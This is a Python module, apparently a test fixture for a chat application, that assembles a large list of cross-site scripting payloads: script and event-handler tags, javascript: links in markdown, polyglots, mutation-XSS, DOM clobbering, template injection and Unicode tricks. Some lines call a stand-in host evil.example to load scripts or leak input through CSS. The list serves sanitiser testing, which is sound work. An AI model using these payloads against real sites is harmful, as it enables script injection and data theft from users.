"""Strings that ran as script somewhere, or tried to: for messages, names, titles, whatever a person can write."""

from __future__ import annotations

_RAW_HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
</script><script>alert(1)</script>
</p><script>alert(1)</script>
</code></pre><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--><img src=x onerror=alert(1)>-->
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=`x`onerror=alert(1)>
<img srcset="x 1x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><a href="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<iframe src=javascript:alert(1)>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<frameset onload=alert(1)>
<object data=javascript:alert(1)>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src=javascript:alert(1)>
<applet code=x archive=//evil.example/x.jar>
<base href=javascript:alert(1)//>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<div style="width:expression(alert(1))">x</div>
<xss style="animation-name:x" onanimationstart=alert(1)></xss>
<body onload=alert(1)>
<body background=javascript:alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<keygen autofocus onfocus=alert(1)>
<table background=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onmouseover=alert(1)>x</a>
<a id=x name=getElementById>clobber</a>
<b onclick=alert(1)>x</b>
<x onclick=alert(1) tabindex=1 autofocus>x</x>
<span class="mention" data-username="x" onclick=alert(1)>@x</span>
<portal src=javascript:alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<chat-app data-socket=//evil.example/>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
{% debug %}{{ request.user.password }}
${alert(1)}
"""

_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript://%0aalert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](\javascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1) )
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example)
[x](/accounts/logout/)
[x](https://evil.example" onmouseover="alert(1))
[x](https://evil.example 'x" onmouseover="alert(1)')
[x](https://evil.example/"onmouseover=alert(1)//)
[x](https://evil.example/<script>alert(1)</script>)
[<img src=x onerror=alert(1)>](https://evil.example)
[x\](https://evil.example/)<script>alert(1)</script>
[x][1] [1]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x" onerror="alert(1)](x)
<javascript:alert(1)>
<data:text/html,alert(1)>
<https://evil.example/"onclick="alert(1)>
https://evil.example/"onmouseover="alert(1)
https://evil.example/'onmouseover='alert(1)
https://evil.example/<script>alert(1)</script>
http://javascript:alert(1)
javascript:alert(1)
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
**<script>alert(1)</script>**
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <img src=x onerror=alert(1)>
~~<svg onload=alert(1)>~~
@mina"onclick="alert(1)
@<script>alert(1)</script>
#tea"onclick="alert(1)
#<script>alert(1)</script>
"""

_LINES = [
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"onclick="alert(1)\nx\n```',
    '```html"><script>alert(1)</script>\nx\n```',
    "```python\n'</span><script>alert(1)</script>'\n```",
    "<script>\nalert(1)\n</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](java\nscript:alert(1))",
    "<img src=x\nonerror=alert(1)>",
    "# <script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "a | b\n--|--\n<script>alert(1)</script> | x",
]


_POLYGLOTS = r"""
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */onerror=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(1)//>
">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)>
'">><script>alert(1)</script><img src=x onerror=alert(1)>'<svg onload=alert(1)>
" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//
'"--></style></script><svg oNload=alert(1)>
%0ajavascript:`/*\"/*-->&lt;svg onload='/*</template></noembed></noscript></style></title></textarea></script><html onmouseover="/**/ alert(1)//'">`
javascript:"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert(1)//>
-->'"/></sCript><svG x=">" onload=(co\u006efirm)``>
<svg%0Ao%00nload=%09((pro\u006dpt))()//
"};alert(1);//
'-alert(1)-'
\'-alert(1)//
</script><script>alert(1)//
";</script><svg onload=alert(1)>
{"a":"</script><script>alert(1)</script>"}
<!--<script>alert(1)//
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#x3c;svg/onload&#x3d;alert(1)&#x3e;
&NewLine;&lt;svg onload=alert(1)&gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%253Cscript%253Ealert(1)%253C/script%253E
"""

_MUTATIONS = r"""
<math><mtext><table><mglyph><style><math>CLICKME</math><img src=x onerror=alert(1)></style>
<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><a id="</style><img src=1 onerror=alert(1)>"></p></svg>
<svg><desc><table><thead><s></table></s><style><a title="</style><img src onerror=alert(1)>"></a></style></desc></svg>
<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>
<svg><foreignObject><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></foreignObject></svg>
<svg><set attributeName=href to=javascript:alert(1)><a><text y=9>x</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>
<svg><image href=x onerror=alert(1)>
<svg><script xlink:href=data:,alert(1)></script>
<svg><script>alert&#40;1&#41;</script>
<svg><handler type=text/ecmascript ev:event=load xmlns:ev=x>alert(1)</handler></svg>
<svg><discard onbegin=alert(1)>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noscript><img title="</noscript><img src onerror=alert(1)>"></noscript>
<noframes><p title="</noframes><img src onerror=alert(1)>">
<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<table><td><svg><style><a title="</style><img src=x onerror=alert(1)>"></table>
<a><table><a><img src=x onerror=alert(1)>
<p><table><form><input name=nodeName autofocus onfocus=alert(1)>
<div><!--><img src=x onerror=alert(1)>--></div>
<div><!---><img src=x onerror=alert(1)>--></div>
<!--!><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<?php echo 1 ?><svg onload=alert(1)>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<b><i></b><img src=x onerror=alert(1)></i>
<p id="</p><img src=x onerror=alert(1)>">
<b title='`<img src=x onerror=alert(1)>`'>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
"""

_CLOBBERING = r"""
<a id=defaultView></a><a id=body></a>
<form id=document><input name=cookie></form>
<form name=body><input id=innerHTML></form>
<img name=getElementById><img name=querySelector>
<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=x:alert(1)>
<form id=attributes><input name=attributes><input name=nodeName>
<a id=hubbub name=words href=javascript:alert(1)>x</a>
<output id=__proto__></output>
<iframe name=alert srcdoc="<script>parent.alert(1)</script>"></iframe>
<input name=csrfmiddlewaretoken value=x>
<template id=row-message><img src=x onerror=alert(1)></template>
<message-item><div class=body>x</div></message-item>
<message-composer data-room=x></message-composer>
<slot name=x onslotchange=alert(1)></slot>
<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>x</div>
<button command=show-modal commandfor=confirm>x</button>
"""

_STYLES = r"""
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=alert(1)></b>
<style>*{visibility:hidden}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/a)}">
<link rel=prefetch href=//evil.example/a>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=set-cookie content="a=b">
<meta name=referrer content=unsafe-url>
<p style="background-image:url('//evil.example/a')">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#y)">x</p>
<p style="behavior:url(#x)">x</p>
<p class="visually-hidden menu" hidden popover>x</p>
</style><img src=x onerror=alert(1)><style>
*/}</style><svg onload=alert(1)>
red;background:url(javascript:alert(1))
}*{background:url(//evil.example/a)}
<body style="background:url(//evil.example/a)">
"""

_TEMPLATES = r"""
{{7*7}}{{''.__class__.__mro__}}
{% load static %}{% static 'x' %}
{% include 'hubbub/chat.html' %}{% csrf_token %}
{{ "<script>alert(1)</script>"|safe }}
{{constructor.constructor('alert(1)')()}}{{$on.constructor('alert(1)')()}}
<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>
<div v-html="''.constructor.constructor('alert(1)')()">x</div>
<div x-data x-init="alert(1)">x</div>
<div hx-on:load="alert(1)" hx-get=//evil.example>x</div>
<div data-bind="html:alert(1)">x</div>
<%= alert(1) %><%- alert(1) %>
#{alert(1)} *{alert(1)} @{alert(1)}
${{alert(1)}} ${"".constructor.constructor("alert(1)")()}
[[${alert(1)}]] [(${alert(1)})]
%(alert)s %s %n {0} {alert} %{alert(1)}
"""

_UNICODE = [
    "＜img src=x onerror=alert(1)＞",
    "﹤script﹥alert(1)﹤/script﹥",
    "‹script›alert(1)‹/script›",
    "＂ onclick=alert(1) ＂",
    "ʺ onclick=alert(1) ʺ",
    "<ſcript>alert(1)</ſcript>",
    "<ıframe src=javascript:alert(1)>",
    "<svg onload=alert(1)\u3000x>",
    "<a href=\u3000javascript:alert(1)>x</a>",
    "[x](ｊavascript:alert(1))",
    "[x](javascript：alert(1))",
    "<İmg src=x onerror=alert(1)>",
    "\u00a0<img src=x onerror=alert(1)>",
    "e\u0301<svg onload=alert(1)>\u0301",
    "Z\u0351\u036b\u0343<script>alert(1)</script>\u0300",
    "𝓈𝒸𝓇𝒾𝓅𝓉<script>alert(1)</script>",
    "שלום<img src=x onerror=alert(1)>עולם",
    "👩‍💻<svg onload=alert(1)>🏳️‍🌈",
    "\ufeff\u200b<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "[x](java\u200bscript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "<img src=x one\u00adrror=alert(1)>",
]

_ESCAPES = ['"', "'", "`", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>"]
_ESCAPES += [
    "</template>",
    "</select>",
    "</noscript>",
    "</button>",
    "</h1>",
    "*/",
    '\\">',
    "');",
    '"}]}',
    "${",
    "%00",
    "<!--",
]
_VECTORS = ["<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>"]
_ATTRIBUTES = ["onmouseover=alert(1)", "autofocus onfocus=alert(1)", "style=x:expression(alert(1))"]
_HANDLERS = """
    body:onpageshow body:onhashchange button:onclick details:ontoggle div:onpointerenter div:onwheel embed:onload
    form:onsubmit iframe:onload img:onloadstart input:oninput input:oninvalid link:onload marquee:onfinish
    object:onerror p:oncopy select:onchange span:onanimationstart style:onload svg:onunload textarea:onselect
    track:onerror video:oncanplay video:onloadstart x:onauxclick x:onscrollsnapchange
    x:oncontentvisibilityautostatechange
""".split()  # noqa: SIM905
_SCHEMES = """
    javascript:alert(1) JAVASCRIPT:alert(1) java&Tab;script:alert(1) java&NewLine;script:alert(1)
    java%0ascript:alert(1) javascript&#58;alert(1) javascript&#x3a;alert(1) &#x6a;avascript:alert(1) %6aavascript:alert(1)
    \\x6aavascript:alert(1) feed:javascript:alert(1) view-source:javascript:alert(1) jar:javascript:alert(1) wyciwyg://x
    data:text/html,<svg/onload=alert(1)> data:image/svg+xml,<svg/onload=alert(1)> data:text/javascript,alert(1)
    data:application/xhtml+xml;base64,PHg+ blob:null/x filesystem:x about:blank mhtml:x livescript:x mocha:x
    intent:x ms-its:x x-javascript:alert(1) //evil.example/x \\\\evil.example\\x https:javascript:alert(1)
    https://x@javascript:alert(1) /\\evil.example ./javascript:alert(1) ?javascript:alert(1) #javascript:alert(1)
""".split()  # noqa: SIM905


def _combined() -> list[str]:
    escaped = [before + vector for before in _ESCAPES for vector in _VECTORS]
    in_attributes = [f"x{quote} {attribute} {quote}" for quote in "\"'`" for attribute in _ATTRIBUTES]
    handled = [f"<{tag} {handler}=alert(1) src=x>" for tag, _, handler in (one.partition(":") for one in _HANDLERS)]
    linked = [f"[x]({scheme})" for scheme in _SCHEMES] + [f"<a href='{scheme}'>x</a>" for scheme in _SCHEMES]
    return [*escaped, *in_attributes, *handled, *linked]


_LISTS = [_RAW_HTML, _MARKDOWN, _POLYGLOTS, _MUTATIONS, _CLOBBERING, _STYLES, _TEMPLATES]
_FLAT = [line for lines in _LISTS for line in lines.strip().splitlines()]

ATTACKS = list(dict.fromkeys([*_FLAT, *_LINES, *_UNICODE, *_combined()]))
